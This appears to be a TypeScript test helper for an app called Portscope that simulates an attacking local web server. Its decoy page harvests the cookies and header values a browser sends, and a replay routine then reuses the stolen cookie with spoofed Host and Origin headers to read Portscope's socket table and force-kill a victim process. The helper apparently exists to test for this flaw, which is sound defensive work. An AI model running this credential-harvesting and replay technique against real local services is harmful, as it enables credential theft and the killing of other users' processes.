import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import WebSocket from 'ws';
import type { Snapshot } from '../../shared/model';
import { decodeResult } from '../../shared/wire';

/**
 * Another local user's web server on another 127.0.0.1 port (issue 13): it serves a harmless page,
 * records every request line and header a visiting browser sends (cookies included: browsers do not
 * separate cookies by port), then replays what it got against Portscope as a non-browser client,
 * which sets Host and Origin to whatever it likes.
 */

export interface Received {
  url: string;
  headers: IncomingHttpHeaders;
  /** Every header as sent, name and value in turn. */
  raw: string[];
}

export interface Attacker {
  origin: string;
  /** Everything the browser sent to this server. */
  received: Received[];
  close(): Promise<void>;
}

/** Start the attacker's page server on a free 127.0.0.1 port. */
export async function startAttacker(): Promise<Attacker> {
  const received: Received[] = [];
  const server: Server = createServer((req, res) => {
    received.push({ url: req.url ?? '', headers: req.headers, raw: req.rawHeaders });
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    res.end('<!doctype html><title>cat pictures</title><p>Nothing to see here.</p>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    received,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** Every value the browser handed over that could be a credential: cookie values, header values. */
export function loot(received: Received[]): { cookieHeaders: string[]; secrets: string[] } {
  const cookieHeaders = new Set<string>();
  const secrets = new Set<string>();
  for (const r of received) {
    const cookie = r.headers.cookie;
    if (cookie) cookieHeaders.add(cookie);
    for (let i = 1; i < r.raw.length; i += 2) {
      for (const part of (r.raw[i] as string).split(/[;,\s]+/)) {
        const value = part.includes('=') ? part.slice(part.indexOf('=') + 1) : part;
        if (value.length >= 16) secrets.add(value);
      }
    }
    for (const part of r.url.split(/[?#&=/]+/)) if (part.length >= 16) secrets.add(part);
  }
  return { cookieHeaders: [...cookieHeaders], secrets: [...secrets] };
}

/** One successful answer Portscope gave the attacker. */
export interface Served {
  channel: string;
  result: unknown;
}

/**
 * Open Portscope's WebSocket with the right Host and Origin (and the stolen Cookie header), send
 * `authToken` as an auth frame when given, then ask for the socket table and, if it gets one,
 * force-kill whoever holds `victimPort`. Resolves with every request Portscope served.
 */
export function replay(
  portscopePort: number,
  cookieHeader: string | null,
  authToken: string | null,
  victimPort: number,
): Promise<Served[]> {
  const served: Served[] = [];
  const headers: Record<string, string> = {
    Host: `127.0.0.1:${portscopePort}`,
    Origin: `http://127.0.0.1:${portscopePort}`,
  };
  if (cookieHeader) headers.Cookie = cookieHeader;
  return new Promise((resolve) => {
    const ws = new WebSocket(`ws://127.0.0.1:${portscopePort}/ws`, { headers });
    const done = () => resolve(served);
    const timer = setTimeout(() => ws.terminate(), 5_000);
    ws.once('close', () => {
      clearTimeout(timer);
      done();
    });
    ws.once('error', () => {});
    ws.once('unexpected-response', () => {
      clearTimeout(timer);
      ws.terminate();
      done();
    });
    ws.once('open', () => {
      if (authToken) ws.send(JSON.stringify({ type: 'auth', token: authToken }));
      ws.send(JSON.stringify({ type: 'req', id: 1, channel: 'monitor:status', payload: {} }));
      ws.send(JSON.stringify({ type: 'req', id: 2, channel: 'snapshot:get', payload: {} }));
    });
    ws.on('message', (data) => {
      const msg = JSON.parse(data.toString()) as {
        type: string;
        id?: number;
        ok?: boolean;
        result?: unknown;
      };
      if (msg.type !== 'res' || !msg.ok) return;
      served.push({
        channel: ['', 'monitor:status', 'snapshot:get', 'kill:run'][msg.id ?? 0] ?? '?',
        result: msg.result,
      });
      if (msg.id === 2) {
        // Rows cross packed (shared/wire.ts): unpack them as the page does.
        const { rows } = decodeResult('snapshot:get', msg.result) as Snapshot;
        const row = rows.find((r) => r.localPort === victimPort && r.pid !== null && r.process);
        if (!row?.process) return ws.close();
        ws.send(
          JSON.stringify({
            type: 'req',
            id: 3,
            channel: 'kill:run',
            payload: { target: { pid: row.pid, startId: row.process.startId }, force: true },
          }),
        );
      }
      if (msg.id === 3) ws.close();
    });
  });
}
